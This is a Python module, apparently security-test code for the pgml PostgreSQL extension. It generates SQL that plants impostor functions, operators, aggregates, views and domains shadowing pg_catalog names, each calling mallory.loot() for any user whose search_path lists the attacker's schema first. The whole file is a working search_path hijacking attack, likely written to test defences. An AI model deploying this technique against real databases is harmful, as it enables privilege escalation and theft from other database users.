"""Functions, operators, types and relations of mallory's that have the names of PostgreSQL's own, to be found first.

Each runs mallory.loot(). Whoever looks a name up in a path with their schema in front of pg_catalog gets the impostor.
"""

from __future__ import annotations

from sessions import Session

# What pgml's SQL, PL/pgSQL and Python call, and what a user would.
FUNCTIONS = """{
    array_agg, array_fill, array_ndims, array_replace, array_send, cardinality, clock_timestamp, current_setting, float8,
    float8send, format, format_type, has_column_privilege, has_function_privilege, json_populate_recordset, lower, max,
    min, name, nextval, obj_description, oid, pg_get_userbyid, pg_relation_size, pg_sleep, quote_ident, quote_literal,
    set_config, text, to_regclass, unnest, upper
}"""
OPERATORS = '{=, <>, <, >=, "||", ->, ->>, "#>>", ?, ~, !~, +, -, *}'
OPERANDS = '{text, name, oid, int4, int8, float8, bool, "\\"char\\"", jsonb, tid, bytea, regclass, "text[]"}'
TYPES = ("text", "float8", "int8", "int4", "bool", "oid", "name", "jsonb", "json", "bytea", "regclass", "regrole", "tid")
RELATIONS = {
    **dict.fromkeys(("pg_class", "pg_namespace", "pg_type", "pg_proc", "pg_roles", "pg_trigger"), "*"),
    "pg_attribute": "attrelid, attname, attnum, atttypid, atttypmod, attisdropped, attacl",  # another has no type
}

# These fit a call better than PostgreSQL's own, which take anything.
BETTER = [
    *(f"jsonb_build_object({', '.join(['text'] * count)})" for count in (2, 4, 6)),
    "jsonb_build_object(text, text, text, text, text, bigint)",
    *(f"format({', '.join(['text'] * count)})" for count in (2, 3, 4)),
    "format(text, name)",
    "format(text, name, text)",
    "format(text, bigint)",
    "format(text, float8)",
    "cardinality(float8[])",
    "array_send(float8[])",
    "string_agg(text, text, text)",
    "predict(text, int4[])",
    "predict(text, numeric[])",
]


def settle(session: Session, schema: str) -> None:
    """Have a session make an impostor of everything in a schema."""
    body = "LANGUAGE plpgsql AS 'BEGIN PERFORM mallory.loot(); RETURN"
    made = [f"CREATE FUNCTION {schema}.{signature} RETURNS text {body} NULL; END'" for signature in BETTER]
    made += [
        f"CREATE FUNCTION {schema}.{name}({arguments}) RETURNS {result} {body}{'' if is_set else ' NULL'}; END'"
        for name, arguments, result, is_set in session.execute(_FUNCTIONS, FUNCTIONS)
    ]
    for number, (operator, left, right, result) in enumerate(session.execute(_OPERATORS, OPERATORS, OPERANDS, OPERANDS)):
        made += [
            f"CREATE FUNCTION {schema}.operator_{number}({left}, {right}) RETURNS {result} {body} NULL; END'",
            f"CREATE OPERATOR {schema}.{operator}"
            f" (FUNCTION = {schema}.operator_{number}, LEFTARG = {left}, RIGHTARG = {right})",
        ]
    made += [
        f"CREATE FUNCTION {schema}.looting(bytea, bytea, bytea) RETURNS bytea {body} $1; END'",
        f"CREATE AGGREGATE {schema}.string_agg(bytea, bytea) (SFUNC = {schema}.looting, STYPE = bytea)",
    ]
    for name, columns in RELATIONS.items():
        made += [
            f"CREATE VIEW {schema}.{name} AS SELECT {columns}, mallory.loot() AS looted FROM pg_catalog.{name}",
            f"GRANT SELECT ON {schema}.{name} TO PUBLIC",
        ]
    made += [f"CREATE DOMAIN {schema}.{name} AS pg_catalog.{name} CHECK (mallory.loot())" for name in TYPES]
    session.execute(";\n".join(made))


_FUNCTIONS = """
    SELECT proname, pg_get_function_identity_arguments(p.oid),
        CASE WHEN proretset THEN 'SETOF ' ELSE '' END || format_type(prorettype, NULL), proretset
    FROM pg_proc AS p
    WHERE pronamespace = 'pg_catalog'::regnamespace AND proname = ANY (%s) AND prokind = 'f' AND proargmodes IS NULL
        AND NOT EXISTS (
            SELECT FROM pg_type WHERE pg_type.oid IN (SELECT unnest(proargtypes) UNION ALL SELECT prorettype)
                AND typname IN ('internal', 'cstring', 'any', 'void')
        )
"""
_OPERATORS = """
    SELECT oprname, format_type(oprleft, NULL), format_type(oprright, NULL), format_type(oprresult, NULL)
    FROM pg_operator
    WHERE oprnamespace = 'pg_catalog'::regnamespace AND oprname = ANY (%s)
        AND oprleft = ANY (%s::regtype[]) AND oprright = ANY (%s::regtype[])
"""
